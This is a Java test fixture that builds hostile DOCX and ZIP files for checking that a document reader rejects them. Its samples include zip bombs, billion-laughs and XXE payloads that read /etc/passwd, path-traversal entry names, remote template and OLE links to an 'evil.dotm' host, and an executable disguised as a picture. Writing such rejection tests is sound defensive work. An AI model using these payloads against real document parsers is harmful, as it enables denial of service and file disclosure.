package fr.phoenix.bot.documents.reading;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import fr.phoenix.dialogs.documents.DocumentReader.Problem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** DOCX files and archives made to do harm. */
final class HostileDocx {

    private static final String TEXT = "Claire Martin, hôtesse de caisse depuis 2019 au Supermarché du Centre";

    private HostileDocx() {}

    static List<HostileFile> all() {
        return List.of(
                refused("a bomb in its text", part("word/document.xml", zeros(200)), Problem.TOO_HEAVY),
                refused("a bomb in a picture", with("word/media/image1.png", zeros(100)), Problem.TOO_HEAVY),
                refused("an archive of archives", nested(), Problem.UNSUPPORTED),
                refused("100,000 entries", entries(100_000), Problem.TOO_HEAVY),
                refused(
                        "a name that leads out",
                        with("../../etc/cron.d/job", TEXT.getBytes(UTF_8)),
                        Problem.ACTIVE_CONTENT),
                refused("an absolute name", with("/etc/passwd", TEXT.getBytes(UTF_8)), Problem.ACTIVE_CONTENT),
                refused(
                        "a billion laughs",
                        part("word/document.xml", laughs().getBytes(UTF_8)),
                        Problem.ACTIVE_CONTENT),
                refused(
                        "a billion laughs in UTF-16",
                        part("word/document.xml", laughs().getBytes(UTF_16)),
                        Problem.ACTIVE_CONTENT),
                refused(
                        "an entity from the disk",
                        part(
                                "word/document.xml",
                                ("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + document("&e;"))
                                        .getBytes(UTF_8)),
                        Problem.ACTIVE_CONTENT),
                refused(
                        "a template from elsewhere",
                        related("attachedTemplate", "http://198.51.100.1/evil.dotm"),
                        Problem.ACTIVE_CONTENT),
                refused(
                        "a template from a share",
                        related("attachedTemplate", "file://198.51.100.1/share/evil.dotm"),
                        Problem.ACTIVE_CONTENT),
                refused(
                        "an object from elsewhere",
                        related("oleObject", "https://198.51.100.1/object"),
                        Problem.ACTIVE_CONTENT),
                HostileFile.read(
                        "a picture from elsewhere", "cv.docx", related("image", "https://198.51.100.1/pixel.png")),
                refused("macros", with("word/vbaProject.bin", new byte[20]), Problem.MACROS),
                refused(
                        "macros by its type alone",
                        with(
                                "[Content_Types].xml",
                                "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"
                                        .getBytes(UTF_8)),
                        Problem.MACROS),
                refused(
                        "an OLE package",
                        with("word/embeddings/oleObject1.bin", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0
                        }),
                        Problem.ACTIVE_CONTENT),
                refused(
                        "a program as a picture",
                        with("word/media/image1.png", new byte[] {'M', 'Z', (byte) 0x90, 0}),
                        Problem.ACTIVE_CONTENT),
                refused(
                        "an ActiveX control",
                        with("word/activeX/activeX1.xml", "<x/>".getBytes(UTF_8)),
                        Problem.ACTIVE_CONTENT),
                refused(
                        "an old document with a password",
                        new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1, 2, 3, 4},
                        Problem.ENCRYPTED),
                refused("cut off", Arrays.copyOf(good(), good().length / 2), Problem.BROKEN, Problem.EMPTY),
                refused(
                        "elements 100,000 deep",
                        part("word/document.xml", deep().getBytes(UTF_8)),
                        Problem.BROKEN,
                        Problem.TOO_HEAVY),
                refused(
                        "tables 200 deep",
                        part(
                                "word/document.xml",
                                document("<w:tbl><w:tr><w:tc>".repeat(200) + "</w:tc></w:tr></w:tbl>".repeat(200))
                                        .getBytes(UTF_8)),
                        Problem.BROKEN,
                        Problem.TOO_HEAVY,
                        Problem.EMPTY),
                refused(
                        "an element with 200,000 attributes",
                        part("word/document.xml", attributes().getBytes(UTF_8)),
                        Problem.BROKEN,
                        Problem.TOO_HEAVY),
                refused(
                        "10 MB in one line",
                        part(
                                "word/document.xml",
                                document("<w:p><w:r><w:t>" + "mot ".repeat(2_500_000) + "</w:t></w:r></w:p>")
                                        .getBytes(UTF_8)),
                        Problem.TOO_HEAVY),
                refused(
                        "nothing but characters without width",
                        part(
                                "word/document.xml",
                                document("<w:p><w:r><w:t>" + "\u200B\u2060".repeat(500) + "</w:t></w:r></w:p>")
                                        .getBytes(UTF_8)),
                        Problem.EMPTY),
                refused("a PDF under its name", "cv.docx", RawPdf.good().bytes(), Problem.UNSUPPORTED));
    }

    private static HostileFile refused(String what, byte[] content, Problem expected, Problem... others) {
        return HostileFile.refused("DOCX: " + what, "cv.docx", content, expected, others);
    }

    private static HostileFile refused(String what, String name, byte[] content, Problem expected) {
        return HostileFile.refused("DOCX: " + what, name, content, expected);
    }

    static byte[] good() {
        return part(
                "word/document.xml",
                document("<w:p><w:r><w:t>" + TEXT + "</w:t></w:r></w:p>").getBytes(UTF_8));
    }

    private static String document(String body) {
        return "<w:document xmlns:w=\"" + WordParts.WORD + "\"><w:body>" + body + "</w:body></w:document>";
    }

    private static byte[] part(String name, byte[] content) {
        return Zipped.of(Map.of(name, content));
    }

    private static byte[] with(String name, byte[] content) {
        var parts = new LinkedHashMap<String, byte[]>();
        parts.put(
                "word/document.xml",
                document("<w:p><w:r><w:t>" + TEXT + "</w:t></w:r></w:p>").getBytes(UTF_8));
        parts.put(name, content);
        return Zipped.of(parts);
    }

    private static byte[] related(String type, String target) {
        var relation = """
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
                 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>
                </Relationships>
                """.formatted(type, target);
        return with("word/_rels/document.xml.rels", relation.getBytes(UTF_8));
    }

    private static byte[] zeros(int megabytes) {
        return new byte[megabytes << 20];
    }

    private static byte[] nested() {
        var archive = part("a.txt", TEXT.getBytes(UTF_8));
        for (int i = 0; i < 50; i++) {
            archive = part("inner.zip", archive);
        }
        return archive;
    }

    private static byte[] entries(int number) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.setLevel(0);
            for (int i = 0; i < number; i++) {
                zip.putNextEntry(new ZipEntry("word/" + i));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.size() > 10_000_000 ? Arrays.copyOf(bytes.toByteArray(), 10_000_000) : bytes.toByteArray();
    }

    private static String laughs() {
        var text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY l0 \"lol\">");
        for (int i = 1; i < 10; i++) {
            text.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return text.append("]>")
                .append(document("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>"))
                .toString();
    }

    private static String deep() {
        return document("<w:p>".repeat(100_000) + "</w:p>".repeat(100_000));
    }

    private static String attributes() {
        var text = new StringBuilder("<w:p");
        for (int i = 0; i < 200_000; i++) {
            text.append(" a").append(i).append("=\"\"");
        }
        return document(text.append("/>").toString());
    }
}
